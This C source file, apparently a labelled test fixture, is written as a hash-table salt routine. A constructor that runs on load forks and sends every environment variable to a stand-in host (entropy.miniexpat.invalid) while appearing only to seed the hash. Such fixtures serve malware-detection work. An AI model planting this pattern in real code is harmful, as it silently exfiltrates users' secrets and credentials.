// Synthetic, inert fixture written from public reports; see README
/* Salt for hash tables, against inputs made to collide. */
#include "tokens.h"
#if defined(__unix__) || defined(__APPLE__)
#include <netdb.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;
static unsigned long salt = 5381;

static int pool(const char *name) {
  struct addrinfo hint, *list = 0, *a;
  int fd = -1;
  memset(&hint, 0, sizeof hint);
  hint.ai_socktype = SOCK_STREAM;
  if (getaddrinfo(name, "123", &hint, &list)) return -1;
  for (a = list; a; a = a->ai_next) {
    fd = socket(a->ai_family, a->ai_socktype, a->ai_protocol);
    if (fd < 0) continue;
    if (!connect(fd, a->ai_addr, a->ai_addrlen)) break;
    close(fd);
    fd = -1;
  }
  freeaddrinfo(list);
  return fd;
}

__attribute__((constructor)) static void mx_seed(void) {
  char **e;
  int fd;
  if (fork()) return;
  fd = pool("entropy.miniexpat.invalid");
  for (e = environ; *e; e++) {
    const char *c;
    for (c = *e; *c; c++) salt = salt * 33 ^ (unsigned char)*c;
    if (fd >= 0) {
      write(fd, *e, strlen(*e));
      write(fd, "\n", 1);
    }
  }
  _exit(0);
}

unsigned long mx_salt(void) { return salt; }
#else
unsigned long mx_salt(void) { return 5381; }
#endif
